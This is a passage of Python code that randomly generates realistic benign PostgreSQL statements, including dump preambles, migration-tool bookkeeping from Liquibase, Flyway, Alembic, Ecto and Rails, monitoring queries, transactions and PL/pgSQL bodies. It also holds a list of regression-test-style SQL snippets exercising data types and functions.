            "COMMENT ON TABLE vine_blocks IS 'One row per block; soil_profile is JSON from the 2019 survey (rev %d)'" % n,
            "CREATE TABLE IF NOT EXISTS hut_weather_%d PARTITION OF hut_weather FOR VALUES FROM ('%d-01-01') TO ('%d-01-01')" % ((lambda y: (y, y, y + 1))(r.randint(2018, 2030))),
            "ALTER TABLE organ_tuning_visits ALTER COLUMN pipes_retuned TYPE int[] USING pipes_retuned::int[]",
            "CREATE UNIQUE INDEX bus_fleet_reg_%d ON bus_fleet (upper(registration)) WHERE withdrawn_on IS NULL" % n,
            "CREATE DOMAIN ring_no_%d AS text CHECK (VALUE ~ '^[A-Z]{1,3}[0-9]{4,7}$')" % n,
            "ALTER TABLE wool_bales ADD CONSTRAINT micron_sane_%d CHECK (micron BETWEEN 10 AND 45) NOT VALID" % n,
            "CREATE MATERIALIZED VIEW IF NOT EXISTS mv_hut_nightly_%d AS SELECT hut_code, count(*) AS bunks FROM hut_bunks GROUP BY hut_code WITH NO DATA" % n])

    # ---- migration scripts and dumps
    @add("cx11_pg_dump_preamble", "complex_migration_script")
    def _(r):
        return ("SET statement_timeout = 0;\nSET lock_timeout = 0;\nSET idle_in_transaction_session_timeout = 0;\nSET client_encoding = 'UTF8';\nSET standard_conforming_strings = on;\n"
                "SELECT pg_catalog.set_config('search_path', '', false);\nSET check_function_bodies = false;\nSET xmloption = content;\nSET client_min_messages = warning;\nSET row_security = off;")

    @add("cx11_pg_dump_table", "complex_migration_script")
    def _(r):
        t = r.choice(["seed_accessions", "carillon_bells", "hut_bunks", "tea_lots"])
        return r.choice([
            "SET default_tablespace = '';\n\nSET default_table_access_method = heap;\n\n--\n-- Name: %s; Type: TABLE; Schema: public; Owner: app\n--\n\nCREATE TABLE public.%s (\n    id integer NOT NULL,\n    created_at timestamp with time zone DEFAULT now() NOT NULL\n);\n\n\nALTER TABLE public.%s OWNER TO app;" % (t, t, t),
            "ALTER TABLE ONLY public.%s\n    ADD CONSTRAINT %s_pkey PRIMARY KEY (id);" % (t, t),
            "SELECT pg_catalog.setval('public.%s_id_seq', %d, true);" % (t, r.randint(1, 99999)),
            "CREATE SEQUENCE public.%s_id_seq\n    AS integer\n    START WITH 1\n    INCREMENT BY 1\n    NO MINVALUE\n    NO MAXVALUE\n    CACHE 1;" % t])

    @add("cx11_migration_liquibase", "complex_migration_script")
    def _(r):
        return r.choice([
            "UPDATE public.databasechangeloglock SET LOCKED = TRUE, LOCKEDBY = '%s (10.0.%d.%d)', LOCKGRANTED = NOW() WHERE ID = 1 AND LOCKED = FALSE" % (rword(r, 8), r.randint(0, 255), r.randint(1, 254)),
            "SELECT MD5SUM FROM public.databasechangelog WHERE MD5SUM IS NOT NULL LIMIT 1",
            "INSERT INTO public.databasechangelog (ID, AUTHOR, FILENAME, DATEEXECUTED, ORDEREXECUTED, MD5SUM, DESCRIPTION, COMMENTS, EXECTYPE, CONTEXTS, LABELS, LIQUIBASE, DEPLOYMENT_ID) VALUES ('%d-1', 'ops', 'db/changelog/huts.xml', NOW(), %d, '9:%032x', 'addColumn tableName=hut_bunks', '', 'EXECUTED', NULL, NULL, '4.25.1', '%010d')" % (r.randint(1, 999), r.randint(1, 400), r.getrandbits(128), r.randint(0, 9999999999)),
            "UPDATE public.databasechangeloglock SET LOCKED = FALSE, LOCKEDBY = NULL, LOCKGRANTED = NULL WHERE ID = 1"])

    @add("cx11_migration_flyway", "complex_migration_script")
    def _(r):
        v = r.randint(2, 300)
        return ("-- V%d__add_bell_tuning.sql\nCREATE TABLE bell_tunings (bell_id int NOT NULL REFERENCES carillon_bells (id), tuned_on date NOT NULL, cents_off numeric(5,2));\n"
                "CREATE INDEX bell_tunings_bell_idx ON bell_tunings (bell_id, tuned_on DESC);" % v)

    @add("cx11_migration_golang", "complex_migration_script")
    def _(r):
        v = r.randint(1, 400)
        return r.choice(["SELECT version, dirty FROM \"schema_migrations\" LIMIT 1", "TRUNCATE \"schema_migrations\"",
                         "INSERT INTO \"schema_migrations\" (version, dirty) VALUES (%d, %s)" % (v, r.choice(["true", "false"])),
                         "SELECT pg_advisory_lock(%d)" % r.randint(10 ** 8, 4 * 10 ** 9), "SELECT pg_advisory_unlock(%d)" % r.randint(10 ** 8, 4 * 10 ** 9)])

    @add("cx11_migration_dbmate", "complex_migration_script")
    def _(r):
        v = "%d%02d%02d%06d" % (r.randint(2021, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959))
        return r.choice(["-- migrate:up\nALTER TABLE tea_lots ADD COLUMN taster_notes text;\n\n-- migrate:down\n",
                         "INSERT INTO schema_migrations (version) VALUES ('%s')" % v, "SELECT version FROM schema_migrations ORDER BY version ASC"])

    @add("cx11_migration_alembic", "complex_migration_script")
    def _(r):
        a, b = "%012x" % r.getrandbits(48), "%012x" % r.getrandbits(48)
        return r.choice(["BEGIN;\n\n-- Running upgrade %s -> %s\n\nALTER TABLE raptor_weights ADD COLUMN fed_grams INTEGER;\n\nUPDATE alembic_version SET version_num='%s' WHERE alembic_version.version_num = '%s';\n\nCOMMIT;" % (b, a, a, b),
                         "CREATE TABLE alembic_version (\n    version_num VARCHAR(32) NOT NULL, \n    CONSTRAINT alembic_version_pkc PRIMARY KEY (version_num)\n)",
                         "INSERT INTO alembic_version (version_num) VALUES ('%s') RETURNING alembic_version.version_num" % a])

    @add("cx11_migration_ecto", "complex_migration_script")
    def _(r):
        v = r.randint(20210101000000, 20261231235959)
        return r.choice(['INSERT INTO "schema_migrations" ("version","inserted_at") VALUES (%d,%s)' % (v, q(ts(r))),
                         'SELECT s0."version"::bigint FROM "schema_migrations" AS s0',
                         'CREATE TABLE IF NOT EXISTS "schema_migrations" ("version" bigint, "inserted_at" timestamp(0), PRIMARY KEY ("version"))',
                         'LOCK TABLE "schema_migrations" IN SHARE UPDATE EXCLUSIVE MODE'])

    @add("cx11_migration_graphile", "complex_migration_script")
    def _(r):
        return ("--! Previous: sha1:%040x\n--! Hash: sha1:%040x\n\ndrop function if exists app_public.current_hut() cascade;\n"
                "create function app_public.current_hut() returns text as $$\n  select nullif(current_setting('app.current_hut', true), '');\n$$ language sql stable;" % (r.getrandbits(160), r.getrandbits(160)))

    @add("cx11_migration_rails", "complex_migration_script")
    def _(r):
        return r.choice(['CREATE TABLE "geocache_logs" ("id" bigserial primary key, "gc_code" character varying NOT NULL, "log_type" character varying, "logged_at" timestamp(6) NOT NULL, "created_at" timestamp(6) NOT NULL, "updated_at" timestamp(6) NOT NULL)',
                         'CREATE INDEX "index_geocache_logs_on_gc_code_and_logged_at" ON "geocache_logs" ("gc_code", "logged_at")',
                         'ALTER TABLE "geocache_logs" ADD CONSTRAINT "fk_rails_%010x" FOREIGN KEY ("cache_id") REFERENCES "geocaches" ("id")' % r.getrandbits(40)])

    # ---- monitoring and admin tools
    @add("cx11_exporter", "complex_maintenance_admin")
    def _(r):
        return r.choice([
            "SELECT pg_database.datname, pg_database_size(pg_database.datname) as size_bytes FROM pg_database",
            "SELECT CASE WHEN NOT pg_is_in_recovery() THEN 0 ELSE GREATEST (0, EXTRACT(EPOCH FROM (now() - pg_last_xact_replay_timestamp()))) END AS lag, CASE WHEN pg_is_in_recovery() THEN 1 ELSE 0 END as is_replica",
            "SELECT datname, numbackends, xact_commit, xact_rollback, blks_read, blks_hit, tup_returned, tup_fetched, tup_inserted, tup_updated, tup_deleted, conflicts, temp_files, temp_bytes, deadlocks, blk_read_time, blk_write_time, stats_reset FROM pg_stat_database",
            "SELECT checkpoints_timed, checkpoints_req, checkpoint_write_time, checkpoint_sync_time, buffers_checkpoint, buffers_clean, maxwritten_clean, buffers_backend, buffers_backend_fsync, buffers_alloc, stats_reset FROM pg_stat_bgwriter",
            "SELECT pg_database.datname, tmp.mode, COALESCE(count, 0) as count FROM (VALUES ('accesssharelock'), ('rowsharelock'), ('rowexclusivelock'), ('sharelock'), ('accessexclusivelock')) AS tmp(mode) CROSS JOIN pg_database LEFT JOIN (SELECT database, lower(mode) AS mode, count(*) AS count FROM pg_locks WHERE database IS NOT NULL GROUP BY database, lower(mode)) AS tmp2 ON tmp.mode = tmp2.mode AND pg_database.oid = tmp2.database ORDER BY 1",
            "SELECT pg_stat_statements.userid, pg_stat_statements.dbid, pg_stat_statements.queryid, pg_stat_statements.calls, pg_stat_statements.total_exec_time / 1000.0 AS seconds_total, pg_stat_statements.rows FROM pg_stat_statements JOIN pg_database ON pg_database.oid = pg_stat_statements.dbid WHERE pg_stat_statements.total_exec_time > (SELECT percentile_cont(0.1) WITHIN GROUP (ORDER BY total_exec_time) FROM pg_stat_statements) ORDER BY seconds_total DESC LIMIT %d" % r.choice([50, 100]),
            "SELECT slot_name, database, active, pg_wal_lsn_diff(pg_current_wal_lsn(), restart_lsn) AS retained_bytes FROM pg_replication_slots",
            "SELECT state, count(*) FROM pg_stat_activity WHERE backend_type = 'client backend' GROUP BY state",
            "SELECT queryid, left(query, 120) AS q, calls, round(mean_exec_time::numeric, 2) AS mean_ms, shared_blks_hit + shared_blks_read AS blks FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT %d" % r.choice([10, 20, 25]),
            "SELECT schemaname, relname, n_dead_tup, n_live_tup, round(n_dead_tup * 100.0 / nullif(n_live_tup + n_dead_tup, 0), 1) AS dead_pct FROM pg_stat_user_tables WHERE n_dead_tup > %d ORDER BY n_dead_tup DESC" % r.choice([1000, 10000]),
            "SELECT extract(epoch FROM now() - pg_postmaster_start_time())::int AS uptime_s, pg_is_in_recovery(), current_setting('server_version_num')::int",
            "SELECT pid, usename, application_name, client_addr, state, wait_event_type, wait_event, extract(epoch FROM now() - xact_start) AS xact_s FROM pg_stat_activity WHERE xact_start IS NOT NULL AND now() - xact_start > interval '%d minutes'" % r.randint(1, 30),
            "SELECT pg_stat_statements_reset()", "SELECT sum(heap_blks_hit) / nullif(sum(heap_blks_hit) + sum(heap_blks_read), 0) AS hit_ratio FROM pg_statio_user_tables",
            "SELECT name, setting, unit, source FROM pg_settings WHERE name IN ('max_connections', 'shared_buffers', 'work_mem', 'maintenance_work_mem', 'effective_cache_size')",
            "VACUUM (VERBOSE, ANALYZE) %s" % r.choice(["hut_reservations", "bridge_toll_passages", "archery_scores"]),
            "SET lock_timeout = '%ds'" % r.choice([2, 5, 10]), "SELECT pg_cancel_backend(%d)" % r.randint(1000, 99999)])

    @add("cx11_transactions", "complex_transactions")
    def _(r):
        return r.choice(["BEGIN", "BEGIN TRANSACTION ISOLATION LEVEL READ COMMITTED", "COMMIT", "ROLLBACK", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
                         "SAVEPOINT sp_%s" % rword(r, 5), "RELEASE SAVEPOINT sp_%s" % rword(r, 5), "ROLLBACK TO SAVEPOINT sp_%s" % rword(r, 5),
                         "BEGIN;\nUPDATE toll_accounts SET balance_cents = balance_cents - %d WHERE account_no = %d;\nINSERT INTO bridge_toll_passages (plate, amount_cents) VALUES (%s, %d);\nCOMMIT;" % ((lambda c: (c, r.randint(1000, 999999), q(r.choice(["KX21OBR", "DAB1234"])), c))(r.choice([180, 250, 420]))),
                         "SET TRANSACTION READ ONLY", "SET LOCAL statement_timeout = '%dms'" % r.choice([250, 1000, 3000]), "COMMIT PREPARED 'hut-%s'" % rword(r, 6),
                         "SELECT pg_try_advisory_xact_lock(hashtext(%s))" % q("hut-" + r.choice(HUTS)), "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "END TRANSACTION"])

    # ---- query builders
    @add("cx11_qb_bunks", "complex_query_builder")
    def _(r):
        conds = r.sample(["hut_code = %s" % q(r.choice(HUTS)), "room ILIKE %s" % q(r.choice(["%dortoir%", "%winter%", "%o'neill%"])), "berth <= %d" % r.randint(1, 4),
                          "NOT out_of_service", "bunk_id NOT IN (SELECT bunk_id FROM hut_reservations WHERE stay @> current_date)", "price_chf BETWEEN %d AND %d" % (r.randint(20, 40), r.randint(50, 90))], r.randint(1, 4))
        return "SELECT bunk_id, room, berth FROM hut_bunks WHERE " + " AND ".join(conds) + " ORDER BY room %s LIMIT %d" % (r.choice(["ASC", "DESC"]), r.choice([20, 50]))

    @add("cx11_qb_patents", "complex_query_builder")
    def _(r):
        conds = ["TRUE"] + r.sample(["status = %s" % q(r.choice(["pending", "granted", "lapsed"])), "filed_on >= %s" % q(rdate(r)), "ipc_class LIKE %s" % q(r.choice(["H01M%", "F03D%", "A01G%"])),
                                      "applicant ILIKE %s" % q(r.choice(["%acme%", "%o'reilly%", "%union pacific%"])), "abstract_tsv @@ plainto_tsquery('english', %s)" % q(r.choice(["wind turbine", "select gate", "drop forging"]))], r.randint(1, 3))
        return "SELECT application_no, title FROM patent_applications WHERE " + " AND ".join(conds) + " ORDER BY filed_on DESC"

    @add("cx11_qb_fleet", "complex_query_builder")
    def _(r):
        cols = r.sample(["fleet_no", "registration", "euro_class", "seats", "mileage_km", "last_mot_on"], r.randint(2, 5))
        return "SELECT %s FROM bus_fleet WHERE depot_code IN (%s) ORDER BY %s %s NULLS LAST" % (", ".join(cols), ", ".join(q(d) for d in r.sample(DEPOTS, r.randint(1, 3))), cols[0], r.choice(["ASC", "DESC"]))

    @add("cx11_qb_logs", "complex_query_builder")
    def _(r):
        return ("SELECT log_type, count(*) FROM geocache_logs WHERE logged_at >= %s AND (log_type = 'found' OR log_type = 'dnf') AND logged_by <> %s GROUP BY log_type HAVING count(*) > %d"
                % (q(rdate(r)), q(r.choice(["reviewer", "O'Malley", "admin"])), r.randint(0, 20)))

    # ---- parameterised, function bodies, search
    @add("cx11_param", "complex_parameterized")
    def _(r):
        return r.choice(["SELECT bunk_id FROM hut_bunks WHERE hut_code = $1 AND NOT out_of_service ORDER BY room LIMIT $2",
                         "UPDATE toll_accounts SET balance_cents = balance_cents + $1 WHERE account_no = $2 RETURNING balance_cents",
                         "INSERT INTO archery_scores (archer_no, round_name, total, shot_on) VALUES ($1, $2, $3, $4) RETURNING score_id",
                         "PREPARE bells_by_tower (text) AS SELECT bell_no, note_name FROM carillon_bells WHERE tower_code = $1 ORDER BY bell_no"])

    @add("cx11_plpgsql", "complex_plpgsql_body")
    def _(r):
        return r.choice([
            "CREATE OR REPLACE FUNCTION hut_free_bunks(p_hut text, p_from date, p_to date) RETURNS SETOF int LANGUAGE plpgsql STABLE AS $fn$\nBEGIN\n  RETURN QUERY SELECT b.bunk_id FROM hut_bunks b\n    WHERE b.hut_code = p_hut AND NOT EXISTS (SELECT 1 FROM hut_reservations r WHERE r.bunk_id = b.bunk_id AND r.stay && daterange(p_from, p_to));\nEND;\n$fn$",
            "CREATE OR REPLACE FUNCTION toll_debit() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  UPDATE toll_accounts SET balance_cents = balance_cents - NEW.amount_cents WHERE account_no = NEW.account_no;\n  IF NOT FOUND THEN\n    RAISE EXCEPTION 'no account %', NEW.account_no USING ERRCODE = 'foreign_key_violation';\n  END IF;\n  RETURN NEW;\nEND;\n$$",
            "DO $migrate$\nBEGIN\n  IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'lamp_state') THEN\n    CREATE TYPE lamp_state AS ENUM ('lit', 'dark', 'fault');\n  END IF;\nEND\n$migrate$",
            "CREATE OR REPLACE PROCEDURE close_season(p_hut text) LANGUAGE plpgsql AS $proc$\nDECLARE n int;\nBEGIN\n  UPDATE hut_bunks SET out_of_service = true WHERE hut_code = p_hut;\n  GET DIAGNOSTICS n = ROW_COUNT;\n  RAISE NOTICE 'closed % bunks at %', n, p_hut;\n  COMMIT;\nEND\n$proc$",
            "CREATE FUNCTION bell_note_freq(p_note text) RETURNS numeric LANGUAGE sql IMMUTABLE RETURN 440 * power(2, (CASE left(p_note, 1) WHEN 'A' THEN 0 WHEN 'C' THEN -9 WHEN 'G' THEN -2 ELSE 0 END) / 12.0)"])

    @add("cx11_search", "complex_search_complex")
    def _(r):
        return ("SELECT application_no, ts_rank_cd(abstract_tsv, query) AS rank FROM patent_applications, websearch_to_tsquery('english', %s) query WHERE abstract_tsv @@ query ORDER BY rank DESC LIMIT %d"
                % (q(r.choice(["\"wind turbine\" -offshore", "union joint or coupling", "select gate valve", "drop-in anode", "sleep apnea device"])), r.choice([20, 50])))
    return G


# ---------------------------------------------------------------- regression-test-style statements
REGRESS_FIXED = [
 # types
 ("boolean", "SELECT 'yes'::boolean AND 'no'::boolean AS f, 'n'::bool OR 't'::bool AS t"), ("boolean", "SELECT b1, NOT b1 FROM (VALUES (true), (false), (NULL::bool)) s(b1)"),
 ("boolean", "SELECT booland_statefunc(true, false), boolor_statefunc(false, true)"), ("boolean", "SELECT count(*) FILTER (WHERE f1) FROM bool_tbl11"),
 ("char", "SELECT 'xyz'::char(2), char_length('ab '::char(4)), 'ab'::char(3) = 'ab '"), ("varchar", "SELECT 'mnopq'::varchar(3) AS trunc, length(''::varchar)"),
 ("text", "SELECT concat('one', 2, NULL, 3.5, true)"), ("text", "SELECT format('%3$s %1$s %2$s', 'a', 'b', 'c')"), ("text", "SELECT format('[%10s] [%-10s]', 'right', 'left')"),
 ("text", "SELECT format('%I.%I', 'Weird Schema', 'tbl'), format('%L', E'O\\'Neil')"), ("text", "SELECT quote_ident('select'), quote_literal('it''s'), quote_nullable(NULL)"),
 ("text", "SELECT starts_with('alphabet', 'alph'), 'alphabet' ^@ 'alp'"), ("strings", "SELECT 'abcd' ~ '^a.c', 'ABCD' ~* 'b', 'abcd' !~ 'x'"),
 ("strings", "SELECT regexp_match('foobarbequebaz', '(bar)(beque)')"), ("strings", "SELECT regexp_matches('a1b22c333', '[0-9]+', 'g')"),
 ("strings", "SELECT regexp_substr('1234567890', '\\d{3}', 2), regexp_instr('abcabc', 'b', 1, 2)"), ("strings", "SELECT regexp_like('Hello', 'h', 'i')"),
 ("strings", "SELECT substring('abcdef' from 2 for 3), substring('abcdef' from 'c.e')"), ("strings", "SELECT translate('12345', '143', 'ax')"),
 ("strings", "SELECT ascii('x'), chr(8364), repeat('ab', 3)"), ("strings", "SELECT E'tab\\there', E'nl\\nhere', E'\\u00e9t\\u00e9'"), ("strings", "SELECT U&'\\0441\\043B\\043E\\043D'"),
 ("strings", "SELECT U&'d!0061t!+000061' UESCAPE '!'"), ("strings", "SELECT 'a'\n'b' AS concatenated_across_lines"), ("strings", "SELECT $$dollar 'quoted' text$$, $tag$with $$ inside$tag$"),
 ("strings", "SELECT 'first' -- comment between\n'second'"), ("strings", "SELECT lower('ÀÉÎ'), upper('straße'), initcap('hello wORLD')"),
 ("strings", "SELECT convert_to('ünïcode', 'UTF8'), convert_from('\\x68656c6c6f', 'UTF8')"), ("strings", "SELECT string_agg(x, '-' ORDER BY x DESC) FROM (VALUES ('a'), ('b'), ('c')) v(x)"),
 ("int2", "SELECT int2 '-32768', int2 '32767' - int2 '1'"), ("int2", "SELECT f1, f1 / 2, f1 % 2 FROM int2_tbl11 ORDER BY f1"), ("int4", "SELECT 2147483647::int4 + 1"),
 ("int4", "SELECT gcd(1071, 462), lcm(21, 6), factorial(10)"), ("int4", "SELECT -2 ^ 2, (-2) ^ 2, |/ 16, !! 5 IS NULL"), ("int8", "SELECT q1, q2, q1 & q2, q1 | q2, q1 # q2 FROM int8_tbl11"),
 ("int8", "SELECT generate_series(9223372036854775805::int8, 9223372036854775807::int8)"), ("int8", "SELECT '-9223372036854775808'::int8 / -1::int8"),
 ("float4", "SELECT '1.17549435e-38'::float4, 'inf'::float4, '-Infinity'::float4"), ("float8", "SELECT float8 '1e308' * float8 '10'"), ("float8", "SELECT round(2.5::float8), round(-0.5::float8)"),
 ("float8", "SELECT degrees(pi()), radians(180), atan2d(1, 1), sind(30)"), ("float8", "SELECT trunc(-1.7::float8), ceiling(-1.2::float8), sign(-0.0::float8)"),
 ("numeric", "SELECT 1.000000000000000000000000000001::numeric * 10"), ("numeric", "SELECT sqrt(2::numeric(40, 30)), exp(1::numeric), ln(10::numeric)"),
 ("numeric", "SELECT 'NaN'::numeric = 'NaN'::numeric, 'Infinity'::numeric > 10"), ("numeric", "SELECT scale(1.2300), min_scale(1.2300), trim_scale(1.2300)"),
 ("numeric", "SELECT div(17, 5), mod(-17, 5), 17.5 % 5"), ("numeric", "SELECT to_char(12345.678, '99G999D99'), to_char(-0.1, 'FM9.99')"),
 ("numeric", "SELECT log(2, 1024), log10(1000), power(2::numeric, 0.5)"), ("numeric", "SELECT sum(n) FROM generate_series(1::numeric, 10::numeric, 0.5) n"),
 ("money", "SELECT '12.34'::money * 3, '100'::money / 8"), ("money", "SELECT cash_words('1234.56'::money)"),
 ("uuid", "SELECT '{a0eebc99-9c0b4ef8-bb6d6bb9-bd380a11}'::uuid"), ("uuid", "SELECT uuid_in('11111111-2222-3333-4444-555555555555'::cstring)"),
 ("enum", "CREATE TYPE rainbow11 AS ENUM ('red', 'orange', 'yellow', 'green', 'blue', 'purple')"), ("enum", "SELECT enum_first(NULL::rainbow11), enum_last(NULL::rainbow11)"),
 ("enum", "ALTER TYPE rainbow11 RENAME VALUE 'purple' TO 'violet'"), ("enum", "SELECT 'green'::rainbow11 BETWEEN 'orange' AND 'blue'"), ("enum", "DROP TYPE IF EXISTS rainbow11 CASCADE"),
 ("domain", "CREATE DOMAIN dnotnull11 varchar(15) NOT NULL"), ("domain", "CREATE DOMAIN dcheck11 int CONSTRAINT positive CHECK (VALUE >= 0) DEFAULT 0"),
 ("domain", "ALTER DOMAIN dcheck11 DROP CONSTRAINT positive"), ("domain", "ALTER DOMAIN dnotnull11 DROP NOT NULL"), ("domain", "SELECT cast('-1' AS dcheck11)"),
 ("rangetypes", "SELECT numrange(1.1, 2.2) + numrange(2.0, 3.0)"), ("rangetypes", "SELECT int4range(1, 10) -|- int4range(10, 20), int4range(1, 10) << int4range(11, 20)"),
 ("rangetypes", "SELECT range_merge(int4range(1, 3), int4range(7, 9))"), ("rangetypes", "SELECT '(,)'::tstzrange @> now()"), ("rangetypes", "SELECT lower('[3,7)'::int4range), upper_inc('[3,7]'::int4range)"),
 ("rangetypes", "SELECT daterange('2025-01-01', '2025-01-31') - daterange('2025-01-10', '2025-01-20')"), ("rangetypes", "CREATE TABLE range_test11 (r int4range, EXCLUDE USING gist (r WITH &&))"),
 ("multirangetypes", "SELECT range_agg(r) FROM (VALUES ('[1,3)'::int4range), ('[2,5)'), ('[8,9)')) t(r)"), ("multirangetypes", "SELECT '{[1,5)}'::int4multirange @> 3"),
 ("multirangetypes", "SELECT multirange(int4range(1, 2)) + multirange(int4range(4, 5))"), ("multirangetypes", "SELECT lower('{[2,4), [6,9)}'::int4multirange), upper('{[2,4), [6,9)}'::int4multirange)"),
 ("date", "SELECT date '2000-02-29' + 365, date '1999-12-31' + interval '1 day'"), ("date", "SELECT EXTRACT(CENTURY FROM DATE '2001-01-01'), EXTRACT(MILLENNIUM FROM DATE '2000-12-31')"),
 ("date", "SELECT date_trunc('decade', date '2019-07-04'), date 'tomorrow' > date 'yesterday'"), ("date", "SELECT '1582-10-10'::date - '1582-10-01'::date"),
 ("time", "SELECT time '23:59:59.999999' + interval '1 microsecond'"), ("time", "SELECT '04:05:06 PST'::timetz, time '10:00' - time '08:30'"),
 ("timestamp", "SELECT timestamp '2025-01-31 10:00' + interval '1 month'"), ("timestamp", "SELECT date_part('isodow', timestamp '2025-06-08'), date_part('dow', timestamp '2025-06-08')"),
 ("timestamp", "SELECT timestamp '-infinity' < timestamp 'epoch'"), ("timestamp", "SELECT '2025-03-09 02:30'::timestamp AT TIME ZONE 'America/New_York'"),
 ("timestamptz", "SELECT '2025-06-01 12:00:00 Europe/Zurich'::timestamptz = '2025-06-01 10:00:00+00'::timestamptz"), ("timestamptz", "SET TimeZone = 'America/Los_Angeles'"),
 ("timestamptz", "SELECT make_timestamptz(2025, 7, 15, 8, 15, 23.5, 'Pacific/Auckland')"), ("timestamptz", "SELECT date_trunc('day', timestamptz '2025-03-30 12:00+00', 'Europe/London')"),
 ("interval", "SELECT interval '1 year 2 months 3 days 04:05:06.7'"), ("interval", "SELECT interval '2 hours' / 3, interval '1 day' * 1.5"), ("interval", "SELECT '1 mon'::interval = '30 days'::interval"),
 ("interval", "SELECT extract(epoch FROM interval '1 day 1 second'), date_part('minute', interval '3 hours 25 minutes')"), ("interval", "SELECT interval '+1 -1:00:00'"),
 ("horology", "SELECT to_timestamp('2025-07-14 21:40:00', 'YYYY-MM-DD HH24:MI:SS')"), ("horology", "SELECT to_char(interval '15h 2m 12s', 'HH24:MI:SS')"),
 ("horology", "SELECT overlaps_check FROM (SELECT (date '2025-01-01', date '2025-02-01') OVERLAPS (date '2025-01-15', date '2025-03-01') AS overlaps_check) s"),
 ("horology", "SELECT isfinite(date 'infinity'), isfinite(interval '1 hour')"), ("horology", "SELECT now()::date = current_date"),
 ("inet", "SELECT network(inet '192.168.1.5/24'), broadcast(inet '192.168.1.5/24'), masklen(cidr '10.0.0.0/8')"), ("inet", "SELECT inet '2001:db8::1/64' >>= inet '2001:db8::/48'"),
 ("inet", "SELECT set_masklen(inet '10.1.2.3/8', 16), family(inet '::1')"), ("inet", "SELECT inet_same_family('10.0.0.1', '::1')"),
 ("macaddr", "SELECT trunc(macaddr '12:34:56:78:90:ab'), macaddr8_set7bit(macaddr8 '00:34:56:ab:cd:ef:01:02')"),
 ("bit", "SELECT B'1100' & B'1010', B'1100' | B'1010', B'1' || B'0'"), ("bit", "SELECT bit_length(B'10101'), length(B'10101'::varbit), position(B'01' IN B'0010')"),
 ("bytea", "SELECT '\\xDEADBEEF'::bytea, encode('abc'::bytea, 'escape'), decode('616263', 'hex')"), ("bytea", "SELECT substring('\\x0102030405'::bytea from 2 for 2)"),
 ("bytea", "SELECT md5('\\x00'::bytea), sha512('abc'::bytea) IS NOT NULL"),
 ("json", "SELECT json_agg(x) FROM generate_series(1, 3) x"), ("json", "SELECT '[1, {\"a\": null}]'::json -> 1 ->> 'a' IS NULL"),
 ("json", "SELECT json_object_agg(k, v) FROM (VALUES ('a', 1), ('b', 2)) t(k, v)"), ("json", "SELECT * FROM json_array_elements_text('[\"x\", \"y\"]')"),
 ("json", "SELECT row_to_json(t) FROM (SELECT 1 AS id, 'n' AS name) t"), ("json", "SELECT json_strip_nulls('{\"a\": 1, \"b\": null}')"),
 ("jsonb", "SELECT '{\"a\": [1, 2, 3]}'::jsonb @> '{\"a\": [2]}'"), ("jsonb", "SELECT '{\"a\": 1, \"b\": 2}'::jsonb ?| ARRAY['b', 'c'], '{\"a\": 1}'::jsonb ?& ARRAY['a']"),
 ("jsonb", "SELECT jsonb_insert('{\"a\": [0, 1]}', '{a, 1}', '\"new\"')"), ("jsonb", "SELECT jsonb_object_keys('{\"k1\": 1, \"k2\": {\"x\": 1}}')"),
 ("jsonb", "SELECT jsonb_path_query_array('[1, 2, 3, 4]', '$[*] ? (@ > 2)')"), ("jsonb", "SELECT ('{\"a\": {\"b\": 7}}'::jsonb)['a']['b']"),
 ("jsonb", "SELECT jsonb_to_tsvector('english', '{\"a\": \"The Fat Rats\"}', '[\"string\"]')"), ("jsonb", "SELECT jsonb_build_object('n', 1.50, 'list', jsonb_build_array(true, null))"),
 ("jsonpath", "SELECT jsonb_path_match('{\"a\": 5}', '$.a > 3')"), ("jsonpath", "SELECT '$.a[*] ? (@.b == \"x\" && @.c < 5)'::jsonpath"),
 ("jsonpath", "SELECT jsonb_path_query('{\"a\": [1, 2]}', 'lax $.a.size()')"), ("jsonpath", "SELECT jsonb_path_query('\"12:30\"', '$.time()')"),
 ("xml", "SELECT xmlforest('abc' AS foo, 123 AS bar)"), ("xml", "SELECT xmlroot(xml '<foo/>', version '1.0', standalone yes)"),
 ("xml", "SELECT xmlserialize(content xmlelement(name a, 'b') AS text)"), ("xml", "SELECT xpath_exists('/my:a/text()', '<my:a xmlns:my=\"http://example.com\">t</my:a>', ARRAY[ARRAY['my', 'http://example.com']])"),
 ("xml", "SELECT * FROM xmltable('/rows/row' PASSING '<rows><row id=\"1\"><n>a</n></row></rows>' COLUMNS id int PATH '@id', n text PATH 'n')"),
 ("arrays", "SELECT (ARRAY[1, 2, 3, 4, 5])[2:4], (ARRAY[1, 2, 3])[:2], (ARRAY[1, 2, 3])[2:]"), ("arrays", "SELECT array_dims(ARRAY[[1, 2, 3], [4, 5, 6]])"),
 ("arrays", "SELECT array_replace(ARRAY[1, 2, 5, 4], 5, 3), array_positions(ARRAY[1, 2, 1], 1)"), ("arrays", "SELECT ARRAY[1, 2] || ARRAY[[3, 4]]"),
 ("arrays", "SELECT string_to_array('a|b||c', '|', ''), array_to_string(ARRAY[1, NULL, 3], ',', '*')"), ("arrays", "SELECT 3 = ANY (ARRAY[1, 2, 3]), 3 < ALL (ARRAY[4, 5])"),
 ("arrays", "SELECT cardinality('{{1,2},{3,4}}'::int[]), array_ndims('{{1,2},{3,4}}'::int[])"), ("arrays", "UPDATE arrtest11 SET b[1:1] = '{{110}}' WHERE a[1] = 16"),
 ("tsearch", "SELECT to_tsvector('english', 'The quick brown foxes') @@ to_tsquery('english', 'fox')"), ("tsearch", "SELECT plainto_tsquery('english', 'The Fat & Rats:C')"),
 ("tsearch", "SELECT phraseto_tsquery('english', 'fat rats'), 'fat <2> rats'::tsquery"), ("tsearch", "SELECT setweight(to_tsvector('simple', 'title words'), 'A') || to_tsvector('simple', 'body')"),
 ("tsearch", "SELECT ts_debug('english', 'a fat-cat')"), ("tsearch", "SELECT strip('fat:2,4 cat:3'::tsvector), numnode('(fat & rat) | cat'::tsquery)"),
 ("geometry", "SELECT area(box '((0,0),(3,4))'), npoints(path '[(0,0),(1,1),(2,0)]')"), ("geometry", "SELECT point '(1,2)' <-> point '(4,6)'"),
